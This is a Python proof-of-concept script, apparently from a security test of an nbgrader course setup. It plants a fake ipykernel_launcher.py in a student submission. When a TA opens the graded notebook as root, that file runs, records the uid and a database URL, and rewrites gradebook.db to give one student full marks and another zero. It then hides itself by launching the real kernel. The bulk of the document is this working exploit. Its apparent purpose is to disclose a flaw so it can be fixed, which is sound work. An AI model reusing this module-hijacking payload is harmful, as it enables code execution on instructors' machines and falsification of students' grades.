"""A hand-in carries ipykernel_launcher.py beside the notebook. nbgrader copies every non-notebook file of the
hand-in into autograded/<student>/<assignment>/. The TA (make lab: jupyter lab as root, notebook dir = course)
opens the graded notebook ("Open live notebook" in Formgrader): Jupyter starts the python3 kernel in the notebook's
folder as `python -m ipykernel_launcher`, and -m puts that folder first on sys.path. Simulated through the real
Jupyter server's REST API (POST /api/sessions), which is what JupyterLab does when a notebook is opened."""
from lib import *
import json, urllib.request, secrets, socket, signal
d = course("a02")
PAYLOAD = r'''
import os, sys, sqlite3
here = os.path.dirname(os.path.abspath(__file__))
try:
    with open("/tmp/attack36-root-PWNED.txt", "w") as f:
        f.write(f"uid={os.getuid()} euid={os.geteuid()} cwd={os.getcwd()}\n")
        f.write("env DATABASE_URL=" + os.environ.get("DATABASE_URL", "-") + "\n")
    root = os.path.abspath(os.path.join(here, "..", "..", ".."))
    db = sqlite3.connect(os.path.join(root, "gradebook.db"))
    q = """update grade set manual_score = {} where id in (select g.id from grade g join submitted_notebook n on g.notebook_id=n.id
           join submitted_assignment s on n.assignment_id=s.id join student st on s.student_id=st.id where st.id = ?)"""
    db.execute(q.format("(select max_score from grade_cells gc where gc.id = grade.cell_id)"), ("mallory",))
    db.execute(q.format("0"), ("zoe",))
    db.commit()
except Exception as e:
    open("/tmp/attack36-root-PWNED.txt", "a").write("err " + repr(e) + "\n")
# then hand over to the real launcher so that the TA sees a working kernel
sys.path = [p for p in sys.path if os.path.abspath(p or ".") != here]
del sys.modules["ipykernel_launcher"]
import runpy; runpy.run_module("ipykernel_launcher", run_name="__main__", alter_sys=True)
'''
put(d, "aaron", honest())
p = put(d, "mallory", release())          # no work at all
open(f"{p}/ipykernel_launcher.py", "w").write(PAYLOAD)
put(d, "zoe", honest())
grade(d); print("after grading:"); before = scores(d); grep_canaries(d)
print("autograded/mallory:", os.listdir(f"{d}/autograded/mallory/{A}"))
try: os.remove("/tmp/attack36-root-PWNED.txt")
except FileNotFoundError: pass
# --- the TA: make lab (jupyter lab --notebook-dir=<course> --allow-root), opens mallory's graded notebook
s = socket.socket(); s.bind(("127.0.0.1", 0)); port = s.getsockname()[1]; s.close()
tok = secrets.token_hex(8)
env = dict(os.environ, DISTCOURSE_JUDGE="kernel", DATABASE_URL="postgresql://ta:secret@localhost/x", AWS_SECRET_ACCESS_KEY="AKIASECRETCANARY123")
lab = subprocess.Popen([f"{CLONE}/.venv/bin/jupyter", "server", f"--notebook-dir={d}", "--allow-root", "--no-browser",
                        f"--port={port}", f"--IdentityProvider.token={tok}", "--ServerApp.ip=127.0.0.1"],
                       cwd=d, env=env, stdout=open("/tmp/attack36-root-a02-lab.log", "w"), stderr=subprocess.STDOUT,
                       start_new_session=True)
try:
    for _ in range(60):
        try:
            urllib.request.urlopen(f"http://127.0.0.1:{port}/api/status?token={tok}"); break
        except Exception: time.sleep(1)
    body = json.dumps({"path": f"autograded/mallory/{A}/{A}.ipynb", "type": "notebook", "name": "",
                       "kernel": {"name": "python3"}}).encode()
    req = urllib.request.Request(f"http://127.0.0.1:{port}/api/sessions?token={tok}", data=body, method="POST",
                                 headers={"Content-Type": "application/json"})
    print("session:", urllib.request.urlopen(req).read()[:300])
    for _ in range(30):
        if os.path.exists("/tmp/attack36-root-PWNED.txt"): break
        time.sleep(1)
    time.sleep(2)
    print("PWNED file:", open("/tmp/attack36-root-PWNED.txt").read() if os.path.exists("/tmp/attack36-root-PWNED.txt") else None)
    st = os.stat("/tmp/attack36-root-PWNED.txt") if os.path.exists("/tmp/attack36-root-PWNED.txt") else None
    print("owner uid:", st and st.st_uid)
finally:
    os.killpg(lab.pid, signal.SIGTERM)
    try: lab.wait(15)
    except subprocess.TimeoutExpired: os.killpg(lab.pid, signal.SIGKILL); lab.wait()
print("after the TA opened mallory's notebook:"); scores(d)
